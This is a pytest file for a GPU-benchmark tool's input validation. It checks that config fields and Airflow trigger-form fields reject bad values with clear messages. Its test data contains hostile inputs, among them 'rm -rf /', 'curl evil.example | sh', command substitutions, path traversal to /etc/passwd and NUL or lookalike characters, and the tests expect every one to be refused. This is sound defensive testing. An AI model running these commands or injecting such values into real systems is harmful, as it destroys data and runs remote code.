"""Checks of user input (``gpucompare.config.models`` through ``config.validation``): every bad
value is refused with one message style naming the field, the value and the allowed values.

The trigger form's JSON schema (``models.form_fields``) is tested through Airflow's own ``Param``
validation, the same code that checks the manual DAG's form.
"""

from __future__ import annotations

import math

import pytest

from bench_tasks.constants import MAX_BATCH_SIZE, NETWORKS
from gpucompare.config import models, validation
from gpucompare.config.models import check_request
from gpucompare.config.validation import ValidationError
from gpucompare.errors import PermanentError

INJECTIONS = [
    "p3.2xlarge; rm -rf /",
    "p3.2xlarge && curl evil.example | sh",
    "$(reboot)",
    "`id`",
    "p3.2xlarge\nrm -rf /",
    "p3.2xlarge\n",
    "g5.xlarge'",
    "../../etc/passwd",
    "p3.2xlarge ",
    "p3.2xlarge\x00",
    "",
]

GOOD_EC2_REQUEST = {
    "kind": "ec2", "provider": "aws", "instance_type": "g5.xlarge", "region": "eu-west-1",
    "market": "spot", "gpu_count": 1, "networks": ["resnet-50", "alexnet"], "batch_sizes": [1, 8],
    "modes": ["score", "train"], "dtypes": ["float32"], "profile": "nightly", "ssh_conn_id": None,
    "budget_cap": 5, "budget_currency": "USD",
}
EC2_OPTIONS = {"ami": "ami-0123456789abcdef0", "instance_profile": "p", "results_bucket": "my-bucket"}
TARGETS = {
    "local": {"name": "box", "kind": "local", "provider": "local", "instance_type": "local-cpu"},
    "ssh": {"name": "box", "kind": "ssh", "provider": "leadergpu", "instance_type": "ltbv14",
            "options": {"ssh_conn_id": "lg1"}},
    "ec2": {"name": "box", "kind": "ec2", "provider": "aws", "instance_type": "p3.2xlarge",
            "region": "us-east-1", "options": EC2_OPTIONS},
}


def refused(check, *args, **kwargs) -> ValidationError:
    with pytest.raises(ValidationError) as info:
        check(*args, **kwargs)
    assert isinstance(info.value, PermanentError)  # a retry would type the same value
    return info.value


def target(of: str, **change) -> models.LocalTarget | models.SshTarget | models.Ec2Target:
    return validation.check("", models.Target, {**TARGETS[of], **change})


@pytest.mark.parametrize("value", INJECTIONS)
@pytest.mark.parametrize("kind", ["ec2", "ssh", "local"])
def test_instance_type_refuses_shell_characters_for_every_kind(value: str, kind: str) -> None:
    error = refused(target, kind, instance_type=value)
    assert error.field == "instance_type"
    assert str(error).startswith(f"instance_type: {value!r} is not allowed; allowed: ")
    assert "matching ^(?:" in str(error)  # the pattern is named


def test_instance_type_accepts_real_names_and_ec2_needs_family_size() -> None:
    for name in ("p3.2xlarge", "g5.xlarge", "p4d.24xlarge", "g4dn.12xlarge", "g6e.xlarge"):
        assert target("ec2", instance_type=name).instance_type == name
    assert target("ssh", instance_type="ltbv14").instance_type == "ltbv14"
    # a label that is fine for a rented host is not an EC2 type
    assert "p3.2xlarge" in str(refused(target, "ec2", instance_type="ltbv14"))


def test_every_target_kind_has_its_own_options_model() -> None:
    assert isinstance(target("local").options, models.LocalOptions)
    assert isinstance(target("ssh").options, models.SshOptions)
    assert isinstance(target("ec2").options, models.Ec2Options)
    # an option of another kind is an unknown key of this kind's model, the allowed ones listed
    error = refused(target, "ec2", options={**EC2_OPTIONS, "ssh_conn_id": "x"})
    assert error.field == "options.ssh_conn_id" and error.message == "unknown key"
    assert error.allowed.startswith("ami, instance_profile, results_bucket")
    error = refused(target, "ssh", options={})
    assert error.field == "options.ssh_conn_id" and "missing" in error.message
    # the spec the target classes receive holds only what was stated (normalised)
    assert target("ssh").spec()["options"] == {"ssh_conn_id": "lg1"}


def test_kind_and_provider_go_together() -> None:
    error = refused(target, "ec2", provider="leadergpu")
    assert (error.field, error.allowed) == ("provider", "aws")
    error = refused(target, "local", provider="aws")
    assert (error.field, error.allowed) == ("provider", "local")
    error = refused(target, "ec2", kind="gcp")
    assert error.field == "kind" and error.allowed == "local, ssh, ec2" and "'gcp'" in error.message
    error = refused(validation.check, "", models.Target, {"name": "x"})
    assert error.field == "kind" and error.message == "missing"


def test_networks_are_a_subset_of_the_worker_list() -> None:
    def profile(networks) -> models.SweepProfile:
        return validation.validate(models.SweepProfile, {"name": "p", "networks": networks,
                                                         "batch_sizes": [1], "modes": ["score"]})

    assert profile(["ResNet-50", "alexnet"]).networks == ("resnet-50", "alexnet")
    assert profile("alexnet, vgg-16").networks == ("alexnet", "vgg-16")
    assert profile("all").networks == NETWORKS
    error = refused(profile, ["resnet-50", "lenet"])
    assert error.field == "networks[1]" and "'lenet' is not allowed" in str(error)
    for network in NETWORKS:
        assert network in error.allowed
    assert refused(profile, []).field == "networks"
    assert "listed twice" in str(refused(profile, ["alexnet", "alexnet"]))


@pytest.mark.parametrize(("sizes", "field", "why"), [
    ([0], "batch_sizes[0]", "out of range"), ([1, -2], "batch_sizes[1]", "out of range"),
    ([1.5], "batch_sizes[0]", "not a whole number"), (["x"], "batch_sizes[0]", "not a whole number"),
    ([True], "batch_sizes[0]", "not a whole number"),
    ([MAX_BATCH_SIZE + 1], "batch_sizes[0]", "out of range"),
    ([2 ** 70], "batch_sizes[0]", "out of range"), ([], "batch_sizes", "the list is empty"),
    ([8, 8], "batch_sizes[1]", "listed twice"), ({"a": 1}, "batch_sizes", "expected a list")])
def test_batch_sizes_must_be_distinct_positive_whole_numbers(sizes, field: str, why: str) -> None:
    error = refused(check_request, {**GOOD_EC2_REQUEST, "batch_sizes": sizes})
    assert error.field == field and why in error.message
    assert error.allowed == f"whole numbers from 1 to {MAX_BATCH_SIZE}"


def test_batch_sizes_accept_lists_and_text() -> None:
    for given, expected in (([1, 2, 32], [1, 2, 32]), ("1,8, 32", [1, 8, 32]), ([4.0], [4]), (["16"], [16])):
        assert check_request({**GOOD_EC2_REQUEST, "batch_sizes": given})["batch_sizes"] == expected


def test_modes_and_dtypes_name_their_allowed_values() -> None:
    modes = refused(check_request, {**GOOD_EC2_REQUEST, "modes": ["inference"]})
    assert "'inference' is not allowed; allowed: score, train" in str(modes)
    dtypes = refused(check_request, {**GOOD_EC2_REQUEST, "dtypes": ["int8"]})
    assert "'int8' is not allowed; allowed: float32, float16" in str(dtypes)
    assert check_request({**GOOD_EC2_REQUEST, "modes": "train"})["modes"] == ["train"]


def test_region_market_and_connection_rules() -> None:
    assert target("ec2", region="us-gov-west-1").region == "us-gov-west-1"
    assert refused(target, "ec2", region=None).field == "region"
    assert refused(target, "ec2", region="us-east-1; ls").field == "region"
    assert target("ssh", region=None).region is None
    assert target("ec2", market="spot").market == "spot"
    error = refused(target, "ssh", market="spot")
    assert (error.field, error.allowed) == ("market", "on_demand")
    assert refused(target, "ec2", market="reserved").allowed == "on_demand, spot"
    for bad in ("a b", "x;rm", "../x", "", "lg1\n"):
        assert refused(target, "ssh", options={"ssh_conn_id": bad}).field == "options.ssh_conn_id"


@pytest.mark.parametrize("cap", [-1, math.nan, math.inf, "lots", None, True, 1e7])
def test_budget_cap_must_be_a_finite_number_of_at_least_zero(cap) -> None:
    error = refused(check_request, {**GOOD_EC2_REQUEST, "budget_cap": cap})
    assert error.field == "budget_cap" and error.allowed.startswith("a number >= 0")


def test_budget_cap_zero_is_allowed() -> None:
    assert check_request({**GOOD_EC2_REQUEST, "budget_cap": 0})["budget_cap"] == 0.0


def test_manual_request_is_normalised() -> None:
    request = check_request(GOOD_EC2_REQUEST)
    assert request["target"]["name"] == "aws-g5-xlarge"
    assert request["target"]["options"] == {"budget_cap": 5.0, "budget_currency": "USD"}
    assert request["networks"] == ["resnet-50", "alexnet"]


@pytest.mark.parametrize(("change", "field"), [
    ({"instance_type": "p3.2xlarge; rm -rf /"}, "instance_type"),
    ({"instance_type": "my-box"}, "instance_type"),          # a label, not an EC2 type
    ({"networks": ["resnet-50", "lenet"]}, "networks[1]"),
    ({"batch_sizes": [8, 0]}, "batch_sizes[1]"),
    ({"kind": "ssh", "provider": "leadergpu", "instance_type": "ltbv14"}, "ssh_conn_id"),
    ({"ssh_conn_id": "somehost"}, "ssh_conn_id"),             # only for ssh
    ({"provider": "gcp"}, "provider"),
    ({"region": None}, "region"),
    ({"budget_cap": -1}, "budget_cap"),
    ({"surprise": 1}, "surprise"),
])
def test_manual_request_errors_name_the_field(change: dict, field: str) -> None:
    assert refused(check_request, {**GOOD_EC2_REQUEST, **change}).field == field


# -- hostile input: each names the field, the value (as typed, escaped) and what is allowed ---------
HOSTILE = [
    # (what, where, value, field, value as shown, allowed starts with)
    ("shell metacharacters", ("targets", 1, "options", "remote_dir"), "/srv/x; rm -rf /",
     "targets[1].options.remote_dir", "'/srv/x; rm -rf /'", "an absolute path"),
    ("command substitution", ("targets", 1, "options", "image"), "w$(id)", "targets[1].options.image",
     "'w$(id)'", "a docker image"),
    ("path traversal", ("targets", 1, "options", "remote_dir"), "/srv/../../etc",
     "targets[1].options.remote_dir", "'/srv/../../etc'", "an absolute path"),
    ("path traversal (ec2)", ("defaults", "ec2", "remote_root"), "/opt/..", "defaults.ec2.remote_root",
     "'/opt/..'", "an absolute path"),
    ("unknown key", ("targets", 0, "colour"), "red", "targets[0].colour", None, "kind, name, provider"),
    ("unknown option (typo)", ("defaults", "ec2", "instance_profil"), "x", "defaults.ec2.instance_profil",
     None, "ami, instance_profile"),
    ("unknown top-level key", ("profile",), {}, "profile", None, "schedule, max_instances"),
    ("wrong type: list for text", ("targets", 2, "region"), ["us-east-1"], "targets[2].region",
     "['us-east-1']", "an AWS region"),
    ("wrong type: mapping for a number", ("max_instances",), {"n": 2}, "max_instances", "{'n': 2}",
     "whole numbers from 1 to 1000"),
    ("wrong type: bool for a number", ("targets", 2, "gpu_count"), True, "targets[2].gpu_count", "True",
     "whole numbers from 0 to 64"),
    ("wrong type: text for a flag", ("targets", 2, "enabled"), "yes", "targets[2].enabled", "'yes'",
     "true, false"),
    ("wrong type: text for a target", ("targets", 0), "local", "targets[0]", "'local'", None),
    ("out of range", ("profiles", "demo", "repeats"), 101, "profiles.demo.repeats", "101",
     "whole numbers from 1 to 100"),
    ("out of range: huge", ("profiles", "demo", "batches"), 2 ** 70, "profiles.demo.batches",
     str(2 ** 70), "whole numbers from 1 to 100000"),
    ("out of range: NaN", ("budget_ceiling", "amount"), math.nan, "budget_ceiling.amount", "nan",
     "a number >= 0"),
    ("overlong name", ("targets", 0, "name"), "a" * 5000, "targets[0].name", "(5000 characters)",
     "a lower-case name"),
    ("unicode lookalike (Cyrillic р)", ("targets", 2, "instance_type"), "\u04403.2xlarge",
     "targets[2].instance_type", "'\\u04403.2xlarge' (non-ASCII characters)", "an EC2 type"),
    ("unicode lookalike (fullwidth ;)", ("targets", 1, "options", "ssh_conn_id"), "box\uff1breboot",
     "targets[1].options.ssh_conn_id", "'box\\uff1breboot' (non-ASCII characters)", "an Airflow connection"),
    ("NUL byte", ("targets", 1, "provider"), "leader\x00gpu", "targets[1].provider", "'leader\\x00gpu'",
     "a lower-case name"),
    ("trailing newline", ("schedule",), "0 2 * * *\n", "schedule", "'0 2 * * *\\n'", "a five-field cron"),
    ("reserved tag key", ("defaults", "ec2", "tags"), {"aws:owner": "me"}, "defaults.ec2.tags.aws:owner",
     None, "a tag key not starting with aws:"),
    ("enum case", ("targets", 3, "market"), "SPOT", "targets[3].market", "'SPOT'", "on_demand, spot"),
    # issue 19: ec2 tag values and the results prefix are checked like every other option, and
    # the volume size is limited to what the IAM policy allows (gpucompare iam-policy)
    ("tag value with ';'", ("defaults", "ec2", "tags"), {"team": "gpu; rm -rf /"}, "defaults.ec2.tags.team",
     None, "a tag value of at most 256 letters"),
    ("tag value with a newline", ("defaults", "ec2", "tags"), {"team": "gpu\nx"}, "defaults.ec2.tags.team",
     None, "a tag value"),
    ("tag value with NUL", ("defaults", "ec2", "tags"), {"team": "gpu\x00"}, "defaults.ec2.tags.team",
     None, "a tag value"),
    ("results_prefix with '..'", ("defaults", "ec2", "results_prefix"), "gpucompare/../other",
     "defaults.ec2.results_prefix", None, "an S3 key prefix"),
    ("results_prefix of 10k characters", ("defaults", "ec2", "results_prefix"), "p" * 10000,
     "defaults.ec2.results_prefix", "(10000 characters)", "an S3 key prefix"),
    ("volume above the policy", ("defaults", "ec2", "volume_size_gb"), 16384, "defaults.ec2.volume_size_gb",
     "16384", "whole numbers from 8 to 200"),
]


@pytest.mark.parametrize(("what", "where", "value", "field", "shown", "allowed"), HOSTILE,
                         ids=[h[0] for h in HOSTILE])
def test_hostile_fleet_values_are_refused_naming_field_value_and_allowed(
        what: str, where: tuple, value, field: str, shown: str | None, allowed: str | None) -> None:
    import copy

    from gpucompare.config import fleet
    from tests.unit.config.test_fleet import SHIPPED

    document = copy.deepcopy(fleet.read_document(SHIPPED))
    node = document
    for key in where[:-1]:
        node = node[key]
    node[where[-1]] = value
    error = refused(fleet.parse_fleet, document)
    assert error.field == field, str(error)
    text = str(error)
    assert text.startswith(f"{field}: "), text
    if shown is not None:
        assert shown in error.message, text
    if allowed is not None:
        assert "; allowed: " in text and error.allowed.startswith(allowed), text
    assert len(text) < 1200  # an overlong value is cut, not echoed whole


def test_every_error_is_counted_and_the_first_is_named() -> None:
    """pydantic finds every error; the message names the first (in the file's order) and counts the rest."""
    error = refused(check_request, {**GOOD_EC2_REQUEST, "gpu_count": -1, "modes": ["x"], "dtypes": ["y"]})
    assert error.field == "gpu_count" and error.more == 2 and "(2 more error(s) after this one)" in str(error)


def test_trigger_form_schemas_refuse_what_the_model_refuses() -> None:
    """The manual DAG's Params use these schemas; Airflow validates the form with them."""
    from airflow.sdk import Param
    from airflow.sdk.exceptions import ParamValidationError

    fields = models.form_fields()

    def form_refuses(name: str, value) -> bool:
        try:
            Param(value, **fields[name]["schema"]).resolve()
        except ParamValidationError:
            return True
        return False

    for value in INJECTIONS:
        assert form_refuses("instance_type", value), value
        assert form_refuses("ssh_conn_id", value) or value == "", value
    assert form_refuses("networks", ["lenet"])
    assert form_refuses("batch_sizes", [0])
    assert form_refuses("batch_sizes", [8, 8])
    assert form_refuses("market", "reserved")
    assert form_refuses("worker_runtime", "ngc-latest")  # only the runtimes table's names
    assert not form_refuses("worker_runtime", "ngc-24.06")
    assert form_refuses("budget_cap", -0.5)
    assert form_refuses("region", "us-east-1 && id")
    assert form_refuses("region", "us-east-1\n")  # jsonschema's "$" alone would let it through
    for name, value in GOOD_EC2_REQUEST.items():
        assert not form_refuses(name, value), name
    for name, field in fields.items():  # every default is valid for its own form field and the model
        assert not form_refuses(name, field["default"]), name
    check_request({name: field["default"] for name, field in fields.items()})


@pytest.mark.parametrize(("value", "accepted"), [
    ("aws", True), ("leadergpu", True), ("local", True), ("nvidia", True), ("unknown", True),
    ("1cloud", True), ("my_cloud", True), ("aws\n", False), ("AWS", False), ("aws;id", False),
    ("a" * 41, False), ("", False)])
def test_one_provider_rule_at_the_form_the_fleet_and_ingest(value: str, accepted: bool) -> None:
    """config.patterns.PROVIDER is the only provider rule: the trigger form / fleet check and the
    lake's ingest agree on every value (a trailing newline included: fullmatch, never match)."""
    from gpucompare.lake.ingest import RunContext
    from gpucompare.lake.rows import IngestError

    try:
        target("ssh", provider=value)
        by_model = True
    except ValidationError:
        by_model = False
    try:
        RunContext(provider=value, instance_type="g5.xlarge").validated()
        by_ingest = True
    except IngestError:
        by_ingest = False
    assert by_model == by_ingest == accepted


def test_the_models_have_a_json_schema() -> None:
    """What ``python -m gpucompare schema`` prints: the fleet file's and the trigger params'."""
    fleet_schema = models.FleetFile.model_json_schema()
    assert fleet_schema["additionalProperties"] is False
    assert {"targets", "profiles"} <= set(fleet_schema["required"])
    trigger = models.TriggerParams.model_json_schema()
    assert set(trigger["properties"]) == set(models.form_fields())


@pytest.mark.parametrize(("what", "expected"), [
    ("fleet", lambda: models.FleetFile.model_json_schema()),
    ("trigger", lambda: models.TriggerParams.model_json_schema()),
    ("form", lambda: models.form_fields())])
def test_the_schema_command_prints_the_models_schema(what: str, expected, capsys) -> None:
    import json

    from gpucompare.cli import main

    assert main(["schema", what]) == 0
    assert json.loads(capsys.readouterr().out) == json.loads(json.dumps(expected()))
